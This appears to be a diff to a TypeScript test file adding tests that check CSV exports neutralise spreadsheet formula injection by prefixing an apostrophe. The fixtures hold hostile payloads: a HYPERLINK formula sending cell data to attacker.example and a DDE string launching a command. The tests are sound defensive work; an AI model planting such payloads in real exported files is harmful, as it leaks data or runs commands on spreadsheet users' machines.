@@ -1,7 +1,7 @@
 import { parse } from 'csv-parse/sync';
 import { fileURLToPath } from 'node:url';
 import { describe, expect, it } from 'vitest';
-import { BOM, formatCsv } from '../../src/data/csv.ts';
+import { BOM, defuseFormula, formatCsv } from '../../src/data/csv.ts';
 import { buildDataDictionary } from '../../src/data/data-dictionary.ts';
 import {
 	buildStatesJson,
@@ -44,6 +44,41 @@ describe('formatCsv', () => {
 		const [row] = parseCsv(text);
 		expect(Object.values(row ?? {})).toEqual(tricky);
 	});
+
+	it('prefixes with an apostrophe every cell a spreadsheet would run as a formula, and no other', () => {
+		const formulas = ['=1+1', '+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("https://x.example","y")'];
+		const [row] = parseCsv(formatCsv([formulas.map((_, i) => `c${i}`), formulas]));
+		expect(Object.values(row ?? {})).toEqual(formulas.map((formula) => `'${formula}`));
+		for (const text of ['a=1', 'Oregon', ' -1', '', '2025-11-12', 'https://x.example/?a=1']) expect(defuseFormula(text)).toBe(text);
+	});
+});
+
+describe('the downloads, with formulas in the records', () => {
+	// What a hostile pull request could put in a summary or a title, where Excel or Sheets would run it.
+	const FORMULA = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")';
+	const [first, ...rest] = states;
+	const [source, ...otherSources] = sources;
+	if (!first || !source) throw new Error('the fixture needs a state and a source');
+	const hostileStates = [{ ...first, nlets: { ...first.nlets, summary: FORMULA } }, ...rest];
+	const hostileSources = [{ ...source, title: '@SUM(1+1)*cmd|" /C calc"!A0', publisher: '-2+3' }, ...otherSources];
+
+	it('states.csv stores the summary as text, apostrophe first', () => {
+		const row = parseCsv(formatStatesCsv(hostileStates, hostileSources)).find((r) => r['code'] === first.code);
+		expect(row?.['nlets_summary']).toBe(`'${FORMULA}`);
+	});
+
+	it('sources.csv stores the title and publisher as text, apostrophe first', () => {
+		const row = parseCsv(formatSourcesCsv(hostileSources)).find((r) => r['id'] === source.id);
+		expect(row?.['title']).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
+		expect(row?.['publisher']).toBe(`'-2+3`);
+	});
+
+	it('leaves no cell of either file starting with a formula character', () => {
+		const cells = [...parseCsv(formatStatesCsv(hostileStates, hostileSources)), ...parseCsv(formatSourcesCsv(hostileSources))].flatMap((row) =>
+			Object.values(row),
+		);
+		expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+	});
 });
 
 describe('the states download', () => {
@@ -55,7 +90,7 @@ describe('the states download', () => {
 		expect(rows.map((r) => r['code'])).toEqual(states.map((s) => s.code));
 	});
 
-	it('round-trips every status, date and summary of every record', () => {
+	it('round-trips every status, date and summary of every record (none of the fixture’s starts like a formula)', () => {
 		for (const [i, state] of states.entries()) {
 			const row = rows[i];
 			expect(row?.['nlets_status']).toBe(state.nlets.status);
